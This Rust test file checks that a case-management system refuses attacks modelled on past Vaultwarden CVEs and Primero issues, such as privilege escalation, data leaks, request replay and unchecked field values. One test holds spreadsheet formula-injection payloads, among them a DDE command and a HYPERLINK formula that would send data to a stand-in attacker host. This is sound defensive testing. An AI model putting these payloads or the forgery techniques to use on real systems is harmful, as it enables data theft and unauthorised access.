//! The faults that others had, by their numbers: what the same fault would be here, and that it is not.
//!
//! Vaultwarden's of 2026 are all "one handler forgot"; Primero's are read from its history. `docs/threat-model.md` lists them
//! with the tests.

use super::cast::{
    ADMIN, COORDINATOR, Cast, HELPER, OTHER_REPORTER, OUTSIDE_ADMIN, OUTSIDE_COORDINATOR, Opened, PROVIDER,
    REPORTER, grant,
};
use jonaki_core::protocol::directory::{OrganisationRecord, RootRecord};
use jonaki_core::protocol::sync::{Cursor, FeedEntry, News, Response};
use jonaki_core::protocol::{
    Body, Certificate, Change, Code, Compartment, CompartmentSet, EntryId, Erase, Invite, InviteLink, Item,
    OrganisationId, Principal, Recipient, RecordId, Removal, Role, VerifiedInvite, Withdraw, frame, limits,
};
use jonaki_core::{Error, FieldEdit, NewInvite, Report, Scalar, StateFault};
use jonaki_document::hostile::{Action, Forgery, Object, Operation, Raw};
use jonaki_document::layout::{DISTRICTS, FieldType};
use jonaki_document::{Document, Edit, layout};
use jonaki_tests::world::Device;

fn case(cast: &mut Cast) -> Opened {
    cast.open(REPORTER, 1).pop().expect("a case")
}

fn change(cast: &mut Cast, name: &str, case: &Opened, field: &str, value: &str) -> Item {
    let actor = cast.peers.get_mut(name).expect("a peer").actor();
    let edit = [Edit::set(field, value.into())];
    let change = case.card.clone().edit(actor, &edit).expect("edited").expect("a change").bytes;
    Change { record: case.record, compartment: Compartment::Card, change }.to_item()
}

fn sealed(cast: &mut Cast, name: &str, case: &Opened, part: Compartment, field: &str) -> Item {
    let actor = cast.peers.get_mut(name).expect("a peer").actor();
    let mut document = Document::new(part).expect("a document");
    let edit = [Edit::set(field, "বিবরণ".into())];
    let bytes = document.edit(actor, &edit).expect("edited").expect("a change").bytes;
    cast.item(name, case, part, bytes)
}

/// What a feed entry shows of a record.
fn shown(entry: &FeedEntry, record: RecordId) -> Vec<Body> {
    match entry.news() {
        Ok(News::Batch(batch)) => {
            let bodies = batch.items.iter().flatten().filter_map(|item| item.parse().ok());
            // Who may not read any more is told so, by what was signed.
            let content = |body: &Body| !matches!(body, Body::Withdraw(_) | Body::Erase(_));
            bodies.filter(|body: &Body| body.record() == Some(record) && content(body)).collect()
        }
        Ok(News::Snapshot { record: of, compartment, saved }) if of == record => {
            vec![Body::Change(Change { record, compartment, change: saved })]
        }
        _ => Vec::new(),
    }
}

/// Everything that a peer gets of a record, from the beginning of its feeds.
pub(super) fn everything(cast: &mut Cast, name: &str, record: RecordId) -> Vec<Body> {
    let mut cursor = Cursor::default();
    let mut found = Vec::new();
    loop {
        let response = cast.ask(name, |request| request.cursor = cursor.clone()).expect("an answer");
        found.extend(response.feed.iter().flat_map(|entry| shown(entry, record)));
        if !response.more {
            return found;
        }
        cursor = response.cursor;
    }
}

fn verdicts(cast: &Cast, response: &Response, count: usize) -> Vec<Option<Code>> {
    let receipt = cast.receipt(response);
    let of = |at: usize| receipt.refused.iter().find(|(known, _)| usize::from(*known) == at);
    (0..count).map(|at| of(at).map(|(_, code)| *code)).collect()
}

/// An unused invite.
fn invite(cast: &mut Cast, by_abroad: bool, role: Role) -> VerifiedInvite {
    let by = if by_abroad { &mut cast.abroad } else { &mut cast.founder };
    let link = by.client().invite(NewInvite { organisation: None, role }).expect("an invite").link;
    cast.world.sync(by).expect("synced");
    let now = cast.world.clock.now();
    InviteLink::from_text(&link).and_then(|link| link.verify(now, None)).expect("a true invite")
}

/// A peer's certificate by an invite, as it is or made into something else and signed by the peer.
fn certificate(cast: &Cast, name: &str, verified: &VerifiedInvite, instead: Option<Invite>) -> Certificate {
    let peer = cast.peer(name);
    let now = cast.world.clock.now();
    let mut made = verified.certify(&peer.sign.public(), &peer.kem.public(), now);
    if let Some(invite) = instead {
        made.invite = invite.sign(&peer.programme, &peer.sign);
    }
    made
}

fn role_of(cast: &Cast, name: &str) -> (Role, OrganisationId) {
    let device = cast.peer(name).id();
    let mut found = None;
    let read = cast.world.service().inspect(&mut |_, directory, _| {
        found = directory.member(&device).map(|member| (member.role, member.organisation));
        Ok(())
    });
    read.expect("the server's database");
    found.expect("a member")
}

fn is_erased(cast: &Cast, record: RecordId) -> bool {
    let mut erased = None;
    let read = cast.world.service().inspect(&mut |_, _, tx| {
        erased = tx.record(&record)?.map(|row| row.erased);
        Ok(())
    });
    read.expect("the server's database");
    erased.expect("a record")
}

/// CVE-2026-27898: a partial update answered with the whole entry, to whoever sent it.
#[test]
fn vaultwarden_cve_2026_27898_a_refused_update_gives_nothing_of_the_record_back() {
    let mut cast = Cast::new(80);
    let case = case(&mut cast);
    for name in [OTHER_REPORTER, OUTSIDE_COORDINATOR, OUTSIDE_ADMIN] {
        let items = vec![
            change(&mut cast, name, &case, "district", "jashore"),
            sealed(&mut cast, name, &case, Compartment::Account, "narrative"),
            cast.key_set(&case, 1, &[Compartment::Account]),
        ];
        let batch = cast.sign(name, items);
        let response = cast
            .ask(name, |request| {
                request.batches = vec![batch];
                request.prove = vec![case.record];
            })
            .expect("an answer");
        let refused = verdicts(&cast, &response, 3);
        assert_eq!(refused, [Code::Policy, Code::NoAccess, Code::KeySetRefused].map(Some), "{name}");
        assert!(response.feed.iter().all(|entry| shown(entry, case.record).is_empty()), "{name}");
        assert!(everything(&mut cast, name, case.record).is_empty(), "{name}");
    }
}

/// CVE-2026-27803: the flag "may manage" of a collection was not checked, so that every member of it managed it.
#[test]
fn vaultwarden_cve_2026_27803_who_was_shown_a_part_does_not_manage_the_case() {
    let mut cast = Cast::new(81);
    let case = case(&mut cast);
    cast.share(&[(&case, &[Compartment::Account])]);
    let (home, _) = cast.epoch(cast.home);
    let reporter = Recipient::Device(cast.peer(REPORTER).id());
    for name in [OUTSIDE_COORDINATOR, OUTSIDE_ADMIN] {
        let own = (Recipient::Device(cast.peer(name).id()), cast.peer(name).kem.public());
        let mut granter = cast.granter_for(name, own.0, &own.1);
        let wider = grant(&mut granter, &case, &[Compartment::Account, Compartment::Identity]);
        let items = vec![
            granter.capsule().to_item(),
            wider,
            sealed(&mut cast, name, &case, Compartment::Identity, "name_nick"),
            cast.key_set(&case, 1, &[Compartment::Account, Compartment::Identity]),
            cast.key_set(&case, 1, &[Compartment::Safety]),
            Withdraw { record: case.record, recipient: home }.to_item(),
            Withdraw { record: case.record, recipient: reporter }.to_item(),
            Erase { record: case.record }.to_item(),
        ];
        let expected = [
            None,
            Some(Code::GrantRefused),
            Some(Code::NoAccess),
            Some(Code::KeySetRefused),
            Some(Code::KeySetRefused),
            Some(Code::NotAllowed),
            Some(Code::NotAllowed),
            Some(Code::NotAllowed),
        ];
        assert_eq!(cast.send(name, items), expected, "{name}");
    }
    assert!(!is_erased(&cast, case.record));
    cast.world.sync(&mut cast.reader).expect("synced");
    assert!(cast.reader.client().peek(case.record).is_ok(), "the reporter's organisation still has its case");
    // What it was shown it may give back.
    let (other, _) = cast.epoch(cast.other);
    let back = Withdraw { record: case.record, recipient: other }.to_item();
    assert_eq!(cast.send(OUTSIDE_COORDINATOR, vec![back]), [None]);
}

/// The same on an honest device: it says no before anything is sent.
#[test]
fn an_honest_device_of_another_organisation_neither_erases_nor_takes_away() {
    let mut cast = Cast::new(82);
    let case = case(&mut cast);
    cast.share(&[(&case, &[Compartment::Account])]);
    cast.world.sync(&mut cast.abroad).expect("synced");
    let (home, other) = (Principal::Organisation(cast.home), Principal::Organisation(cast.other));
    let no = Err(Error::Refused(Code::NotAllowed));
    assert_eq!(cast.abroad.client().erase(case.record), no);
    assert_eq!(cast.abroad.client().withdraw(case.record, home), no);
    cast.abroad.client().withdraw(case.record, other).expect("its own it may give back");
    cast.world.sync(&mut cast.abroad).expect("synced");
    assert_eq!(cast.abroad.client().peek(case.record).map(drop), Err(Error::NotFound));
    cast.world.sync(&mut cast.founder).expect("synced");
    cast.founder.client().erase(case.record).expect("the home's administrator erases");
    cast.world.sync(&mut cast.founder).expect("synced");
    assert!(is_erased(&cast, case.record));
}

/// CVE-2026-43913: an owner who had not been confirmed could purge the vault.
#[test]
fn vaultwarden_cve_2026_43913_an_administrator_who_is_not_in_force_purges_nothing() {
    let mut cast = Cast::new(83);
    let case = case(&mut cast);
    let erase = || Erase { record: case.record }.to_item();
    // An invite that ended before it was used.
    let verified = invite(&mut cast, false, Role::Admin);
    cast.world.clock.pass(limits::INVITE_SECONDS + limits::CLOCK_SKEW_SECONDS + 1);
    let late = cast.peers.remove(PROVIDER).expect("a peer");
    let fresh = jonaki_tests::catalogue::Cheat {
        sign: jonaki_core::protocol::SignPrivate::from_seed(&[91; 32]),
        kem: jonaki_core::protocol::KemPrivate::derive(&[91; 32]),
        programme: late.programme,
        rng: late.rng,
    };
    cast.peers.insert("late", fresh);
    let joins = certificate(&cast, "late", &verified, None).to_item();
    for items in [vec![joins.clone(), erase()], vec![erase(), joins]] {
        let batch = cast.sign("late", items);
        assert_eq!(cast.bring("late", vec![batch]).map(drop), Err(Code::InviteExpired));
    }
    // One who confirms itself, one who was removed, one whose role stops short.
    let invited = invite(&mut cast, false, Role::Coordinator);
    let raised = Invite { role: Role::Admin, ..invited.invite.clone() };
    let raised = certificate(&cast, COORDINATOR, &invited, Some(raised)).to_item();
    let expected = [Some(Code::IssuerRefused), Some(Code::NotAllowed)];
    assert_eq!(cast.send(COORDINATOR, vec![raised, erase()]), expected);
    let removed = cast.peer(ADMIN).id();
    cast.founder.client().remove_member(removed).expect("removed");
    cast.world.sync(&mut cast.founder).expect("synced");
    let batch = cast.sign(ADMIN, vec![erase()]);
    assert_eq!(cast.bring(ADMIN, vec![batch.clone()]).map(drop), Err(Code::Revoked));
    cast.ask(COORDINATOR, |request| request.offers = vec![batch]).expect("an answer");
    assert!(!is_erased(&cast, case.record));
}

/// CVE-2026-26012: members of an organisation read collections that they were not given.
#[test]
fn vaultwarden_cve_2026_26012_membership_opens_no_more_than_was_granted() {
    let mut cast = Cast::new(84);
    let case = case(&mut cast);
    let told = [
        sealed(&mut cast, REPORTER, &case, Compartment::Account, "narrative"),
        sealed(&mut cast, REPORTER, &case, Compartment::Identity, "name_nick"),
    ];
    cast.must_send(REPORTER, told.to_vec());
    cast.open_closed(&[&case]);
    let plan = sealed(&mut cast, HELPER, &case, Compartment::Safety, "plan");
    cast.must_send(HELPER, vec![plan]);
    assert!(everything(&mut cast, OUTSIDE_COORDINATOR, case.record).is_empty());
    assert!(everything(&mut cast, OTHER_REPORTER, case.record).is_empty());
    cast.share(&[(&case, &[Compartment::Account])]);
    for name in [OUTSIDE_COORDINATOR, OUTSIDE_ADMIN] {
        let seen = everything(&mut cast, name, case.record);
        let parts: Vec<Compartment> = seen
            .iter()
            .filter_map(|body| match body {
                Body::Sealed(sealed) => Some(sealed.compartment),
                Body::Change(change) => Some(change.compartment),
                _ => None,
            })
            .collect();
        assert_eq!(parts, [Compartment::Card, Compartment::Account], "{name}");
        let allowed: CompartmentSet = [Compartment::Card, Compartment::Account].into_iter().collect();
        let (ours, _) = cast.epoch(cast.other);
        for body in &seen {
            if let Body::Grant(grant) = body {
                // Who else may read is no secret among those who work on a case; what it can open itself is its own.
                assert!(grant.recipient != ours || grant.compartments == allowed, "{name}");
            }
        }
    }
    cast.world.sync(&mut cast.abroad).expect("synced");
    let view = cast.abroad.client().peek(case.record).expect("shown");
    let fields: Vec<&str> = view.fields.iter().map(|field| field.field.as_str()).collect();
    assert_eq!(fields, ["district", "narrative"]);
}

/// R2-1407: users could change their own role.
#[test]
fn primero_r2_1407_nobody_raises_its_own_role() {
    let mut cast = Cast::new(85);
    let before = role_of(&cast, OTHER_REPORTER);
    let verified = invite(&mut cast, false, Role::Reporter);
    let admin = Invite { role: Role::Admin, ..verified.invite.clone() };
    let by_itself = certificate(&cast, OTHER_REPORTER, &verified, Some(admin.clone())).to_item();
    assert_eq!(cast.send(OTHER_REPORTER, vec![by_itself]), [Some(Code::IssuerRefused)]);
    // The true invite, with another role written into its bytes.
    let mut altered = certificate(&cast, OTHER_REPORTER, &verified, None);
    let (from, to) = (jonaki_core::protocol::encode(&verified.invite), jonaki_core::protocol::encode(&admin));
    let at = altered.invite.windows(from.len()).position(|window| window == from).expect("the payload");
    altered.invite[at..at + to.len()].copy_from_slice(&to);
    assert_eq!(cast.send(OTHER_REPORTER, vec![altered.to_item()]), [Some(Code::InviteAltered)]);
    assert_eq!(role_of(&cast, OTHER_REPORTER), before);
    // An honest app does not even try: another role is another profile.
    let mut honest = cast.world.invited(&mut cast.founder, "honest", Role::Reporter);
    let new = NewInvite { organisation: None, role: Role::Coordinator };
    let link = cast.founder.client().invite(new).expect("an invite").link;
    let refused = honest.client().enrol(&link).map(drop);
    assert_eq!(refused, Err(Error::State(StateFault::AlreadyEnrolled)));
}

/// R2-3138: users could change their own groups and agency.
#[test]
fn primero_r2_3138_nobody_moves_to_another_organisation() {
    let mut cast = Cast::new(86);
    let case = case(&mut cast);
    for name in [OUTSIDE_COORDINATOR, OUTSIDE_ADMIN] {
        let before = role_of(&cast, name);
        let verified = invite(&mut cast, false, Role::Coordinator);
        let moved = certificate(&cast, name, &verified, None).to_item();
        assert_eq!(cast.send(name, vec![moved]), [Some(Code::DirectoryRefused)], "{name}");
        let home = Invite { organisation: cast.home, ..verified.invite.clone() };
        let itself = certificate(&cast, name, &verified, Some(home)).to_item();
        assert_eq!(cast.send(name, vec![itself]), [Some(Code::IssuerRefused)], "{name}");
        assert_eq!(role_of(&cast, name), before);
        assert!(everything(&mut cast, name, case.record).is_empty());
    }
}

/// R2-3558: the same again, by another way in.
#[test]
fn primero_r2_3558_there_is_no_other_way_in() {
    let mut cast = Cast::new(87);
    let before = role_of(&cast, OTHER_REPORTER);
    let verified = invite(&mut cast, false, Role::Reporter);
    let admin = Invite { role: Role::Admin, ..verified.invite.clone() };
    let by_itself = certificate(&cast, OTHER_REPORTER, &verified, Some(admin)).to_item();
    // Brought by somebody else, as a copy that the server lost.
    let batch = cast.sign(OTHER_REPORTER, vec![by_itself]);
    cast.ask(PROVIDER, |request| request.offers = vec![batch]).expect("an answer");
    assert_eq!(role_of(&cast, OTHER_REPORTER), before);
    // As an issuer that an organisation's record names.
    let (time, home) = (cast.world.clock.now().plus(9), cast.home);
    let peer = cast.peer(OTHER_REPORTER);
    let record = OrganisationRecord {
        organisation: home,
        kind: "ngo".to_owned(),
        name_bn: "পরীক্ষা".to_owned(),
        name_en: "Test".to_owned(),
        issuers: vec![peer.sign.public()],
        time,
    };
    let named = RootRecord::Organisation(record).sign(&peer.sign).to_item();
    assert_eq!(cast.send(OTHER_REPORTER, vec![named]), [Some(Code::DirectoryRefused)]);
    // By removing who stands in the way.
    let removal = Removal { device: cast.peer(ADMIN).id() }.to_item();
    assert_eq!(cast.send(OTHER_REPORTER, vec![removal]), [Some(Code::NotAllowed)]);
}

/// R2-1922: records that were linked to a record were shown without asking whether they may be.
#[test]
fn primero_r2_1922_a_link_to_a_record_opens_nothing() {
    let mut cast = Cast::new(88);
    let case = case(&mut cast);
    let foreign = cast.open_abroad();
    let actor = cast.peers.get_mut(COORDINATOR).expect("a peer").actor();
    let hour = Scalar::Int(cast.world.clock.now().floor_hour().0);
    let link = Scalar::from(foreign.to_string());
    let fields = [("kind", Scalar::from("duplicate_of")), ("at", hour), ("record", link)];
    let event = Edit::add_entry("events", EntryId::from_bytes([3; 12]), &fields);
    let bytes = case.card.clone().edit(actor, &[event]).expect("edited").expect("a change").bytes;
    let item = Change { record: case.record, compartment: Compartment::Card, change: bytes }.to_item();
    assert_eq!(cast.send(COORDINATOR, vec![item]), [None], "a link is an id and nothing else");
    for name in [COORDINATOR, ADMIN, PROVIDER, REPORTER] {
        assert!(everything(&mut cast, name, foreign).is_empty(), "{name}");
        let proof = cast.ask(name, |request| request.prove = vec![foreign]).expect("an answer");
        assert!(proof.feed.iter().all(|entry| shown(entry, foreign).is_empty()), "{name}");
    }
    cast.world.sync(&mut cast.reader).expect("synced");
    let view = cast.reader.client().peek(case.record).expect("the case");
    assert_eq!(view.events.last().and_then(|event| event.record), Some(foreign));
    assert_eq!(cast.reader.client().peek(foreign).map(drop), Err(Error::NotFound));
}

/// R2-3182: sessions could be taken over.
#[test]
fn primero_r2_3182_a_captured_request_is_worth_nothing() {
    let mut cast = Cast::new(89);
    let peer = cast.peers.get_mut(COORDINATOR).expect("a peer");
    let (request, body) = {
        let request = peer.request(&cast.world, Vec::new());
        let body = request.to_body(&peer.sign).expect("a request");
        (request, body)
    };
    let now = cast.world.clock.now();
    assert!(cast.exchange(&body).is_ok());
    // Again, also as the token of the live stream; and a token as a request.
    assert_eq!(cast.exchange(&body).map(drop), Err(Code::Replayed));
    assert_eq!(cast.world.service().authenticate(now, &body).map(drop), Err(Code::Replayed));
    let token = cast.reader.client().live_token().expect("a token");
    let token = data_encoding::BASE64URL_NOPAD.decode(token.as_bytes()).expect("base64");
    assert!(cast.world.service().authenticate(now, &token).is_ok());
    assert_eq!(cast.exchange(&token).map(drop), Err(Code::Replayed));
    // Under another's key, or another's under its own.
    let thief = &cast.peer(OTHER_REPORTER).sign;
    let mut plain =
        frame::unpack(&request.to_body(thief).expect("a request"), limits::REQUEST_BYTES).expect("a frame");
    let (own, victim) = (*cast.peer(OTHER_REPORTER).id().as_bytes(), *cast.peer(COORDINATOR).id().as_bytes());
    let at = plain.windows(16).position(|window| window == own).expect("the key id");
    plain[at..at + 16].copy_from_slice(&victim);
    assert_eq!(cast.exchange(&frame::pack(&plain)).map(drop), Err(Code::BadSignature));
    // Once the server has forgotten it, its time is over.
    cast.world.clock.pass(3 * limits::CLOCK_SKEW_SECONDS);
    assert_eq!(cast.exchange(&body).map(drop), Err(Code::ClockSkew));
}

/// R2-3591: attachments were not asked about. There are no files yet; what is nearest are the parts of a record that are
/// fetched apart from its feed: the proof of a card and its snapshot.
#[test]
fn primero_r2_3591_what_is_fetched_apart_follows_the_record() {
    let mut cast = Cast::new(90);
    let case = case(&mut cast);
    let mut card = case.card.clone();
    let actor = cast.peers.get_mut(REPORTER).expect("a peer").actor();
    let mut items = Vec::new();
    for number in 0..limits::SNAPSHOT_AFTER_CHANGES as i64 + 2 {
        let edit = [Edit::set("number_of_victims", Scalar::Int(number))];
        let change = card.edit(actor, &edit).expect("edited").expect("a change").bytes;
        items.push(Change { record: case.record, compartment: Compartment::Card, change }.to_item());
    }
    cast.must_send(REPORTER, items);
    let proof = |cast: &mut Cast, name: &str| {
        let response = cast.ask(name, |request| request.prove = vec![case.record]).expect("an answer");
        response.feed.iter().flat_map(|entry| shown(entry, case.record)).count()
    };
    for name in [OTHER_REPORTER, OUTSIDE_COORDINATOR, OUTSIDE_ADMIN] {
        assert_eq!(proof(&mut cast, name), 0, "{name}");
    }
    assert!(proof(&mut cast, COORDINATOR) > limits::SNAPSHOT_AFTER_CHANGES);
    cast.share(&[(&case, &[Compartment::Account])]);
    assert!(proof(&mut cast, OUTSIDE_COORDINATOR) > limits::SNAPSHOT_AFTER_CHANGES);
    let (recipient, _) = cast.epoch(cast.other);
    cast.must_send(HELPER, vec![Withdraw { record: case.record, recipient }.to_item()]);
    assert_eq!(proof(&mut cast, OUTSIDE_COORDINATOR), 0);
}

/// A feed keeps what was once delivered. What was withdrawn since is not shown again, neither to a device that begins anew nor
/// to one that joins later: not the items, and not the card as it is today.
#[test]
fn what_was_withdrawn_is_not_read_again_from_the_beginning() {
    let mut cast = Cast::new(94);
    let cases = cast.open(REPORTER, 2);
    let mut card = cases[1].card.clone();
    let actor = cast.peers.get_mut(REPORTER).expect("a peer").actor();
    let mut long = Vec::new();
    for number in 0..limits::SNAPSHOT_AFTER_CHANGES as i64 + 2 {
        let edit = [Edit::set("number_of_victims", Scalar::Int(number))];
        let change = card.edit(actor, &edit).expect("edited").expect("a change").bytes;
        long.push(Change { record: cases[1].record, compartment: Compartment::Card, change }.to_item());
    }
    cast.must_send(REPORTER, long);
    let (recipient, _) = cast.epoch(cast.other);
    for case in &cases {
        cast.share(&[(case, &[Compartment::Account])]);
        assert!(!everything(&mut cast, OUTSIDE_COORDINATOR, case.record).is_empty());
        cast.must_send(HELPER, vec![Withdraw { record: case.record, recipient }.to_item()]);
        assert!(everything(&mut cast, OUTSIDE_COORDINATOR, case.record).is_empty());
    }
    let mut later = cast.world.invited(&mut cast.abroad, "later", Role::Coordinator);
    cast.world.sync(&mut cast.abroad).expect("synced");
    let round = cast.world.sync(&mut later).expect("enrolled");
    assert_eq!(round.set_aside, 0);
    for case in &cases {
        assert_eq!(later.client().peek(case.record).map(drop), Err(Error::NotFound));
    }
    // And shown again once it is granted again.
    cast.share(&[(&cases[0], &[Compartment::Account])]);
    cast.world.sync(&mut later).expect("synced");
    assert!(later.client().peek(cases[0].record).is_ok());
}

fn honest_reporter(cast: &mut Cast) -> Device {
    let mut reporter = cast.world.invited(&mut cast.founder, "honest", Role::Reporter);
    cast.world.sync(&mut reporter).expect("enrolled");
    reporter
}

/// R2-3593: text in an export was run as a formula. There is no export yet; text must stay the text that it is on its way to
/// the one who will write it: nothing is run, nothing is changed, and in JSON it is a string.
#[test]
fn primero_r2_3593_a_formula_stays_text() {
    let mut cast = Cast::new(91);
    let mut reporter = honest_reporter(&mut cast);
    let formulas = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        "=HYPERLINK(\"https://attacker.example/?\"&A1)",
        "\u{ff1d}1+1",
    ];
    for formula in formulas {
        let told = Report {
            narrative: Some(formula.to_owned()),
            name_given: Some(formula.to_owned()),
            ..Report::default()
        };
        let case = reporter.client().report(&told).expect("text is text");
        cast.world.sync(&mut reporter).expect("synced");
        cast.world.sync(&mut cast.reader).expect("synced");
        let view = cast.reader.client().peek(case).expect("there");
        let json = serde_json::to_value(&view).expect("JSON");
        let fields = json["fields"].as_array().expect("fields");
        let is = |name: &str| {
            fields.iter().any(|field| field["field"] == name && field["value"].as_str() == Some(formula))
        };
        assert!(is("narrative") && is("name_given"), "{formula:?}: {json}");
        // A code is never anything but a code.
        let coded = Report { district: Some(formula.to_owned()), ..Report::default() };
        let refused = reporter.client().report(&coded);
        assert_eq!(refused, Err(Error::Field { field: "district".to_owned() }), "{formula:?}");
    }
}

/// R2-3600: values of fields and lookups were not checked on the server.
#[test]
fn primero_r2_3600_the_server_takes_no_value_outside_its_list() {
    let mut cast = Cast::new(92);
    let case = case(&mut cast);
    let mut items = Vec::new();
    let mut names = Vec::new();
    let mut forge = |cast: &mut Cast, what: String, operations: Vec<Operation>| {
        let actor = cast.peers.get_mut(ADMIN).expect("a peer").actor();
        let bytes = Forgery::on(&case.card, actor, operations).bytes(&case.card);
        items.push(Change { record: case.record, compartment: Compartment::Card, change: bytes }.to_item());
        names.push(what);
    };
    for field in layout(Compartment::Card).fields {
        let mut wrong = vec![Raw::text("not_in_the_list"), Raw::text(""), Raw::text("রিনা"), Raw::Null];
        wrong.extend(match field.kind {
            FieldType::Bool => vec![Raw::Int(1), Raw::text("true")],
            FieldType::Int(low, high) => {
                vec![Raw::Int(low - 1), Raw::Int(high + 1), Raw::Uint(1), Raw::Float(1.0)]
            }
            FieldType::Hour => vec![Raw::Int(1), Raw::Int(i64::MAX), Raw::Timestamp(1_772_344_800)],
            _ => {
                vec![Raw::text(&DISTRICTS[0].to_uppercase()), Raw::Bool(true), Raw::Bytes(b"khulna".to_vec())]
            }
        });
        for value in wrong {
            let what = format!("{} = {value:?}", field.name);
            forge(&mut cast, what, vec![Operation::put(field.name, value)]);
        }
    }
    for (kind, reason) in [("promoted", None), ("closed", Some("because"))] {
        let mut operations = vec![Operation::at(Object::Map("events"), &"ab".repeat(12), Action::MakeMap)];
        operations.push(Operation::put_in(Object::Made(0), "kind", Raw::text(kind)));
        operations.push(Operation::put_in(Object::Made(0), "at", Raw::Int(1_772_344_800)));
        operations
            .extend(reason.map(|reason| Operation::put_in(Object::Made(0), "reason", Raw::text(reason))));
        forge(&mut cast, format!("event {kind}"), operations);
    }
    let said: Vec<Option<Code>> =
        items.chunks(100).flat_map(|items| cast.send(ADMIN, items.to_vec())).collect();
    let taken: Vec<_> =
        names.iter().zip(&said).filter(|(_, code)| **code != Some(Code::ShapeValue)).collect();
    assert!(taken.is_empty() && said.len() > 100, "{} of {}: {taken:?}", taken.len(), said.len());
}

/// R2-3601: option values were not checked by the programming interface.
#[test]
fn primero_r2_3601_the_client_takes_no_option_outside_its_list() {
    let mut cast = Cast::new(93);
    let mut reporter = honest_reporter(&mut cast);
    let case = reporter.client().report(&Report::default()).expect("saved");
    let before = reporter.client().peek(case).expect("there");
    let mut asked = 0;
    for part in [Compartment::Card, Compartment::Identity] {
        for field in layout(part).fields {
            if matches!(field.kind, FieldType::Text(_)) {
                continue;
            }
            let named = Error::Field { field: field.name.to_owned() };
            for value in ["not_in_the_list", "", "Unknown", "unknown ", "=1"] {
                let edit = FieldEdit { field: field.name.to_owned(), value: Some(Scalar::from(value)) };
                assert_eq!(reporter.client().edit(case, &[edit]), Err(named.clone()), "{value:?}");
                asked += 1;
            }
        }
    }
    let concern = FieldEdit { field: "concern_types".to_owned(), value: Some("witchcraft".into()) };
    assert!(reporter.client().edit(case, &[concern]).is_err());
    let concern = Report { concern_types: vec!["witchcraft".to_owned()], ..Report::default() };
    assert!(reporter.client().report(&concern).is_err());
    for json in [r#"{"role":"admin"}"#, r#"{"district":["khulna"]}"#, r#"{"immediate_danger":"yes"}"#] {
        assert!(serde_json::from_str::<Report>(json).is_err(), "{json}");
    }
    assert!(asked > 80, "{asked}");
    assert_eq!(reporter.client().peek(case).expect("there"), before);
}
